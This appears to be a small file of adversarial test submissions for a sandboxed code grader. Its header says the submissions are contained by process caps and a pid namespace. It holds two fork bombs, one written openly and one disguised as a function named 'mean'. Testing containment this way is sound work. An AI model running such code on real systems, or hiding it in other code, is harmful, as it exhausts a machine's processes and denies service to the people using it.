# tries: to fork without end
# kind: breaking
# earns: any
# verdict: any
# contained by: caps: processes of a submission; a pid namespace that ends with its first process

# %% double
import os

try:
    while True:
        os.fork()
except OSError:
    while True:
        pass


# %% mean
def mean(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
